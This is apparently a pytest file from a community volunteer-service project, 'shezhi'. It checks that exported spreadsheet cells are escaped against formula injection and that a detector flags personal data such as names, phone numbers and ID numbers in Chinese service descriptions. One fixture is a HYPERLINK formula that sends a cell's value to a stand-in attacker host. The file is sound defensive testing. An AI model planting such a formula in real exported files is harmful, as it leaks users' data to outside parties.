"""Exported cells never start a formula; neutral descriptions name no one (pure modules)."""

from datetime import date
from decimal import Decimal

import pytest

from shezhi.core.neutral import neutral_description, personal_data_in, public_title
from shezhi.core.spreadsheet import safe_cell, safe_row

INJECTION = '=HYPERLINK("http://evil.example/?id="&C2,"查看详情")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_formula_starts_are_neutralised(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_other_values_pass_unchanged():
    assert safe_cell("陪诊服务") == "陪诊服务"
    assert safe_cell(-3) == -3 and safe_cell(1.5) == 1.5 and safe_cell(None) is None
    assert safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)
    assert safe_row([INJECTION, Decimal("2")]) == ["'" + INJECTION, Decimal("2")]


def test_written_cell_reads_back_as_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(safe_row([INJECTION, "+86 138", "@SUM(A1)"]))
    wb.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx")["s"].iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    assert cells[0].value == "'" + INJECTION


def test_public_title_and_description_come_from_the_category():
    assert public_title("助餐") == "助餐服务"
    assert public_title("法律服务") == "法律服务"
    assert public_title("其他") == "社区志愿服务"
    assert neutral_description("医疗健康") == "为社区居民提供医疗健康服务"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("陪同董阿姨到医院复诊", "姓名或称呼"),
        ("给王建国送餐", "姓名或称呼"),
        ("联系13812345678", "电话号码"),
        ("座机027-87654321", "电话号码"),
        ("身份证42010619500101123X", "身份证号码"),
        ("78岁老人", "年龄"),
        ("到3栋2单元送餐", "门牌地址"),
    ],
)
def test_personal_data_is_found(text, reason):
    assert reason in personal_data_in(text, names=["王建国"])


def test_a_neutral_text_passes():
    assert personal_data_in("为社区居民提供陪诊服务，协助挂号取药", names=["王建国"]) == []
